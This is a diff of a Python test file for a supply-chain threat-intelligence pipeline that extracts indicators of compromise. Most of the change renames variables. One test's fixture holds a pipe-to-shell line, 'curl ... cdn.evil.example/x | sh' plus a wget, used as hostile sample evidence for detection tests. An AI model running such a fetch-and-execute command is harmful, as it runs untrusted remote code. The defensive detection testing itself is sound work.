@@ -29,18 +29,26 @@ def test_each_content_of_an_indicator_has_an_id_and_a_revision_of_its_own():
         flow.found(finding("malicious_payload", "a", minutes=day * 24 * 60))
     flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
     flow.withdraw(f"sha256:{BAD}")
-    sent = [one for one in flow.sent if one.channel is Channel.IOCS and one.tenant == "a"]
-    records = [msgspec.json.decode(one.value, type=SupplyChainIoC) for one in sent]
-    assert [one.status for one in records[-2:]] == ["withdrawn", "active"]
-    contents = {one.value for one in sent}
+    sent = [
+        message
+        for message in flow.sent
+        if message.channel is Channel.IOCS and message.tenant == "a"
+    ]
+    records = [msgspec.json.decode(message.value, type=SupplyChainIoC) for message in sent]
+    assert [record.status for record in records[-2:]] == ["withdrawn", "active"]
+    contents = {message.value for message in sent}
     assert len(contents) == len(sent) == 5
-    assert len({dict(one.headers)["ce_id"] for one in sent}) == len(contents)
-    assert [one.revision for one in records] == list(range(1, len(records) + 1))
-    assert [one.modified for one in records] == sorted(one.modified for one in records)
-    assert {one.category for one in records} == {"compromise"}
-    headers = [dict(one.headers) for one in sent]
-    assert [int(one["ce_revision"]) for one in headers] == [one.revision for one in records]
-    assert [one["ce_status"].decode() for one in headers] == [one.status for one in records]
+    assert len({dict(message.headers)["ce_id"] for message in sent}) == len(contents)
+    assert [record.revision for record in records] == list(range(1, len(records) + 1))
+    assert [record.modified for record in records] == sorted(record.modified for record in records)
+    assert {record.category for record in records} == {"compromise"}
+    headers = [dict(message.headers) for message in sent]
+    assert [int(header["ce_revision"]) for header in headers] == [
+        record.revision for record in records
+    ]
+    assert [header["ce_status"].decode() for header in headers] == [
+        record.status for record in records
+    ]
     for one, record in zip(headers, records, strict=True):
         assert one["ce_severity"].decode() == record.severity
         assert one["ce_disposition"].decode() == record.indicator.disposition
@@ -50,7 +58,7 @@ def test_each_content_of_an_indicator_has_an_id_and_a_revision_of_its_own():
 def test_an_indicator_of_hygiene_says_so_in_its_record_and_a_header():
     flow = Flow()
     flow.found(finding("unpinned_dependency", "a"))
-    (sent,) = [one for one in flow.sent if one.channel is Channel.IOCS]
+    (sent,) = [message for message in flow.sent if message.channel is Channel.IOCS]
     assert msgspec.json.decode(sent.value, type=SupplyChainIoC).category == "hygiene"
     assert dict(sent.headers)["ce_category"] == b"hygiene"
 
@@ -60,20 +68,20 @@ def test_what_a_hostile_payload_speaks_to_becomes_indicators_that_live_with_it()
     payload = finding("malicious_payload", "a")
     text = "('curl https://cdn.evil.example/x | sh; wget https://github.com/evil/y',)"
     flow.found(msgspec.structs.replace(payload, evidence={**payload.evidence, "arguments": text}))
-    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
-    dispositions = {one.indicator.value: one.indicator.disposition for one in network}
+    network = [ioc for ioc in flow.iocs.values() if ioc.indicator.type in {"url", "domain"}]
+    dispositions = {ioc.indicator.value: ioc.indicator.disposition for ioc in network}
     assert dispositions == {
         "https://cdn.evil.example/x": "detect",
         "cdn.evil.example": "detect",
         "https://github.com/evil/y": "detect",
         "github.com": "context",
     }
-    assert not any("http" in one.description for one in network)
-    assert {one.evidence["found_in"] for one in network} == {payload.indicator.key}
-    assert {one.tenant for one in network} == {"a"}
+    assert not any("http" in ioc.description for ioc in network)
+    assert {ioc.evidence["found_in"] for ioc in network} == {payload.indicator.key}
+    assert {ioc.tenant for ioc in network} == {"a"}
     flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
-    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
-    assert {one.status for one in network} == {"withdrawn"}
+    network = [ioc for ioc in flow.iocs.values() if ioc.indicator.type in {"url", "domain"}]
+    assert {ioc.status for ioc in network} == {"withdrawn"}
 
 
 def test_what_is_not_hostile_names_no_network_indicators():
@@ -81,7 +89,7 @@ def test_what_is_not_hostile_names_no_network_indicators():
     weak = finding("suspicious_code", "a")
     text = "requests.get('https://data.acme.example/x')"
     flow.found(msgspec.structs.replace(weak, severity=Severity.MEDIUM, evidence={"code": text}))
-    assert {one.indicator.type for one in flow.iocs.values()} == {weak.indicator.type}
+    assert {ioc.indicator.type for ioc in flow.iocs.values()} == {weak.indicator.type}
 
 
 def test_prevalence_is_published_from_three_other_tenants_on():
@@ -116,7 +124,7 @@ def test_several_hostile_components_of_a_publisher_are_a_campaign():
         )
     kinds = {ioc.ioc_type for ioc in flow.iocs.values()}
     assert "campaign" in kinds
-    linked = [one for one in flow.incidents.values() if one.related]
+    linked = [incident for incident in flow.incidents.values() if incident.related]
     assert len(linked) == 4
     assert len({one.campaign for one in linked}) == 1
 
@@ -137,7 +145,7 @@ def test_a_hygiene_finding_everywhere_is_over_correlating_and_says_so():
             for number in range(203)
         )
     )
-    assert any(one.kind == "over-correlating" for one in flow.operator.values())
+    assert any(notice.kind == "over-correlating" for notice in flow.operator.values())
 
 
 @pytest.mark.parametrize(
